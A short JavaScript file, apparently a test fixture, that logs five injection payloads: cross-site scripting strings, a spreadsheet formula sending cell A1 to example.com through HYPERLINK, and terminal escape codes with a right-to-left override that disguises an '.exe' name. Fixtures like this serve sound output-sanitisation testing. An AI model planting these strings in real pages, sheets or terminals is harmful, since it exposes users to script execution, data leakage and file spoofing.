console.log("<script>alert(document.domain)</script>");
console.log('"><img src=x onerror=alert(1)>');
console.log("</textarea></title></script><svg onload=alert(1)>");
console.log('=HYPERLINK("https://example.com/?" & A1, "marks")');
console.log("\u001b[2J\u001b]0;owned\u0007\u202egnp.exe");
